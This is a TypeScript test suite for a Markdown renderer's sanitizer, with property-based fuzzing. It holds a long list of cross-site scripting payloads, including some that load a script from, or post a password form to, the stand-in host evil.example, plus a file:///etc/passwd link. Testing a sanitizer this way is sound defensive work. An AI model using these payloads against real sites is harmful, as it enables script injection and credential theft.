import fc from "fast-check";
import { afterAll, describe, expect, it } from "vitest";
import { closeRenderer, renderMarkdown } from "#app/lib/markdown/render.ts";
import { disallowed } from "./disallowed.ts";
import { htmlOf } from "./rendered.ts";

afterAll(closeRenderer);

const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='/files/0199c7a2-5b1e-7c3d-9f00-0123456789ab' onload=alert(1)>",
  "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>*{background:url(javascript:alert(1))}</style>",
  "<p style='position:fixed'>x</p>",
  "<a href='javascript:alert(1)'>x</a>",
  "<form action=//evil.example><input name=password><button>ok</button></form>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?php echo 1 ?><!DOCTYPE html>",
  "<xmp><img src=x onerror=alert(1)></xmp><noscript><p title='</noscript><img src=x onerror=1>'>",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;&#97;vascript:alert(1))",
  "[x](java&#x09;script:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](%6aavascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd) [x](blob:https://a/b) [x](ftp://a/b)",
  "[x](//evil.example) [x](/\\evil.example) [x](\\\\evil.example) [x](/%09/evil.example)",
  "[x](/&#9;/evil.example) [x](</\t/evil.example>) [x](https:/\\evil.example) [x](https:evil.example)",
  "[x](https://) [x](http:///evil.example) [x](relative) [x](?q) [x](#id)",
  "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
  "javascript://example.com/%0Aalert(1)",
  "![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg/onload=alert(1)>) ![x](//evil.example/x)",
  '![x" onerror="alert(1)](https://a/b) [x" onclick="alert(1)](https://a "\' onclick=alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1)) <https://a.example/"onmouseover="alert(1)>',
  "[x]: javascript:alert(1)\n\n[x] [x][x] ![x]",
  '```"><script>alert(1)</script>\nx\n```',
  '```js class="x" onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  "```html\n<script>alert(1)</script><style>a{}</style>\n```",
  "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
  "- [x] <input type=text autofocus onfocus=alert(1)>",
  "`<img src=x onerror=alert(1)>` **<b onclick=x>** ~~<i>~~",
  "<details open ontoggle=alert(1)>",
  "[a](https://x.example)[b](javascript:x)[c](/d) ![e](x)[f](/g)",
];

describe("attacks", () => {
  it.each(ATTACKS)("%s", async (source) => {
    for (const text of [source, `> ${source}`, `- ${source}\n  ${source}`, `# ${source}`]) {
      expect(disallowed(await htmlOf(text))).toEqual([]);
    }
  });

  it("shows HTML as it was typed", async () => {
    expect(await htmlOf("<b onclick=x>太字</b>")).toBe("<p>&lt;b onclick=x&gt;太字&lt;/b&gt;</p>");
  });

  it("drops a refused link and keeps its words", async () => {
    expect(await htmlOf("前 [ここ](javascript:alert(1)) 後")).toBe("<p>前 ここ 後</p>");
    expect(await htmlOf("[x](//evil.example)")).toBe("<p>x</p>");
  });

  it("cannot be broken out of through a display name", async () => {
    const html = await htmlOf("@sato", { sato: '"><script>alert(1)</script>' });
    expect(disallowed(html)).toEqual([]);
    expect(html).toContain("&lt;script&gt;");
  });

  it("ignores handles that are no handles", async () => {
    expect(await htmlOf('@x"y @__proto__', { 'x"y': "a", __proto__: "b" } as never)).not.toContain(
      "<a",
    );
  });
});

describe("any markup", () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ..."* ** *** _ __ ~~ ` ``` > - + 1. # [ ] ( ) ![ ]( | |- : \\ < > <!-- --> </ & ; @sato // /".split(
        " ",
      ),
    ),
    fc.constantFrom(
      "\n",
      "\n\n",
      " ",
      "    ",
      "\t",
      "\n- [x] ",
      "\n```html\n",
      "\n|a|b|\n|-|-|\n|",
    ),
    fc.constantFrom(
      "javascript:alert(1)",
      "https://a.example/",
      "&#106;avascript&colon;",
      "data:text/html,",
      "//evil.example",
      "<script>",
      "<img src=x onerror=alert(1)>",
      '" onclick="x',
      "</code></pre>",
      "/files/0199c7a2-5b1e-7c3d-9f00-0123456789ab",
    ),
    fc.constantFrom(...ATTACKS),
    fc.string({ unit: "grapheme", maxLength: 5 }),
    fc.constantFrom("重要。", "「", "」", "、", "あ", "🎉"),
  );
  const markup = fc.array(piece, { maxLength: 25 }).map((pieces) => pieces.join(""));

  it("never yields a tag, attribute or protocol outside the allowlist", async () => {
    await fc.assert(
      fc.asyncProperty(markup, async (source) => {
        const result = await renderMarkdown(source, { mentions: { sato: '<b "&>' } });
        expect(result.ok && disallowed(result.html)).toEqual([]);
      }),
      { numRuns: 1_500 },
    );
  }, 60_000);

  it("is the same each time, and its plain text is well formed", async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: "binary", maxLength: 60 }), async (source) => {
        const [first, second] = await Promise.all([renderMarkdown(source), renderMarkdown(source)]);
        expect(first).toEqual(second);
        expect(first.ok && first.text.isWellFormed() && !first.text.includes("\0")).toBe(true);
      }),
      { numRuns: 300 },
    );
  }, 60_000);
});
